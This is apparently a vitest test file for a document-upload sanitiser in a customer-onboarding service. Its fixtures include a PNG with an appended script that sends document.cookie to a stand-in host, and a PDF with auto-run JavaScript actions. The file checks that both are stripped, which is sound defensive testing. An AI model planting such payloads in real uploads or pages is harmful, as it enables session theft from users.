import { onboardingDocumentMessages as m } from '@cdesk/domain';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { OnboardingStore } from '../src/modules/onboarding/index.js';
import { envelope, FixedClock } from './support/app.js';
import { testDatabases } from './support/databases.js';
import { applicationSteps } from './support/onboarding-kyc.js';
import { appPerSuite } from './support/suite.js';

const b64 = (bytes: Buffer, mime = 'image/png') =>
  `data:${mime};base64,${bytes.toString('base64')}`;

/** A bank statement as a PDF that opens a script and carries bytes after its end. */
async function scriptedPdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  for (let i = 0; i < 40; i += 1)
    page.drawText(`Statement line ${i} of account 50100123456789`, { x: 48, y: 780 - i * 16 });
  const script = doc.context.obj({ S: 'JavaScript', JS: PDFString.of("app.alert('pwned')") });
  doc.catalog.set(PDFName.of('OpenAction'), script);
  page.node.set(PDFName.of('AA'), doc.context.obj({ O: script }));
  const bytes = Buffer.from(await doc.save({ useObjectStreams: false }));
  return Buffer.concat([bytes, Buffer.from('\n<script>alert("after the end")</script>\n')]);
}

describe.each(testDatabases())('uploaded documents are made safe on $name', ({ open }) => {
  const clock = new FixedClock(new Date('2026-11-23T06:00:00Z'));
  const suite = appPerSuite(open, { clock });
  const { call, applicant } = applicationSteps(suite, clock);
  const stored = (refNo: string, docType: string) =>
    new OnboardingStore(suite.database.db, clock).file({
      refNo,
      role: 'F',
      kind: 'DOCUMENT',
      docType,
    });
  const upload = (
    who: Awaited<ReturnType<typeof applicant>>,
    docType: string,
    fileName: string,
    content: string,
  ) =>
    call(who, 'DocumentsService/saveDocuments', {
      event: 'UPLOAD',
      holder: 'F',
      docType,
      fileName,
      content,
    });

  it('redraws a PNG with HTML appended to it, keeping the picture without the HTML', async () => {
    const who = await applicant('44');
    const png = await sharp({
      create: { width: 900, height: 500, channels: 3, background: { r: 230, g: 240, b: 250 } },
    })
      .png()
      .toBuffer();
    const html =
      '<html><body><script>fetch("https://example.invalid/"+document.cookie)</script></body></html>';
    const answer = envelope(
      await upload(who, 'PAN', 'pan.png', b64(Buffer.concat([png, Buffer.from(html)]))),
    );
    expect(answer.isSuccess, answer.displayMessage as string).toBe(true);
    const kept = await stored(who.refNo, 'PAN');
    expect(kept?.mime).toBe('image/png');
    expect(kept!.content.includes('<script>')).toBe(false);
    expect(kept!.content.includes('<html>')).toBe(false);
    const meta = await sharp(kept!.content).metadata();
    expect([meta.width, meta.height]).toEqual([900, 500]);
  });

  it('rewrites a PDF without its OpenAction JavaScript, its page actions and the bytes after its end', async () => {
    const who = await applicant('44');
    const answer = envelope(
      await upload(who, 'BANK_PROOF', 'statement.pdf', b64(await scriptedPdf(), 'application/pdf')),
    );
    expect(answer.isSuccess, answer.displayMessage as string).toBe(true);
    const kept = (await stored(who.refNo, 'BANK_PROOF'))!.content;
    for (const gone of ['JavaScript', 'OpenAction', '/AA', 'pwned', '<script>'])
      expect(kept.includes(gone), gone).toBe(false);
    expect(kept.includes('after the end')).toBe(false);
    const pdf = await PDFDocument.load(kept);
    expect(pdf.getPageCount()).toBe(1);
  });

  it('redraws a large photo down to the document size, and refuses one over the pixel cap undecoded', async () => {
    const who = await applicant('44');
    const big = await sharp({
      create: { width: 3000, height: 2000, channels: 3, background: { r: 200, g: 200, b: 200 } },
    })
      .jpeg()
      .toBuffer();
    expect(envelope(await upload(who, 'PAN', 'pan.jpg', b64(big, 'image/jpeg'))).isSuccess).toBe(
      true,
    );
    const meta = await sharp((await stored(who.refNo, 'PAN'))!.content).metadata();
    expect([meta.width, meta.height]).toEqual([2000, 1333]);

    // 5000 x 5000 is 25 megapixels: refused from its header, before any pixel is decoded.
    const huge = await sharp({
      create: { width: 5000, height: 5000, channels: 3, background: { r: 255, g: 255, b: 255 } },
    })
      .png({ compressionLevel: 9 })
      .toBuffer();
    const refused = await upload(who, 'BANK_PROOF', 'cheque.png', b64(huge));
    expect(refused.statusCode).toBe(400);
    expect(envelope(refused).displayMessage).toBe(m.tooManyPixels(16));
  });
});
